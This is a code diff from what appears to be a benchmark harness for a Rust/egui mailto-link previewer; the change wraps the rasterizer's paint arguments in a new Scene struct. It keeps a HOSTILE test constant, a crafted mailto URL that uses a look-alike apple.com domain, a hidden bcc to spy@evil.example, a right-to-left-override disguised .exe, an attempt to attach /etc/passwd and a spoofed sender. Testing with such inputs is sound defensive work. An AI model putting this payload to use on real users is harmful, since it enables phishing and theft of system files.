@@ -10,7 +10,7 @@
 use std::time::{Duration, Instant};
 
 use egui::{Event, Key, Modifiers, MouseWheelUnit, RawInput, Rect, pos2, vec2};
-use mailto_preview::render::raster::Raster;
+use mailto_preview::render::raster::{Raster, Scene};
 use mailto_preview::ui::{AppOptions, PreviewApp};
 
 const HOSTILE: &str = "mailto:%22support@bank.example%22%20%3Csupport@%D0%B0pple.com%3E?bcc=spy@evil.example&subject=Invoice%20%E2%80%AEfdp.exe&body=Please%20pay.&attach=/etc/passwd&from=ceo@bank.example&X-Mozilla-Draft-Info=1";
@@ -90,10 +90,12 @@ fn run(s: &Session, frames: usize, options: &AppOptions) {
         let primitives = ctx.tessellate(out.shapes, out.pixels_per_point);
         let t1 = Instant::now();
         let damage = raster.paint(
-            [s.pixels[0] as usize, s.pixels[1] as usize],
-            out.pixels_per_point,
-            ctx.global_style().visuals.panel_fill,
-            &primitives,
+            Scene {
+                size: [s.pixels[0] as usize, s.pixels[1] as usize],
+                pixels_per_point: out.pixels_per_point,
+                background: ctx.global_style().visuals.panel_fill,
+                primitives: &primitives,
+            },
             out.textures_delta,
         );
         let t2 = Instant::now();
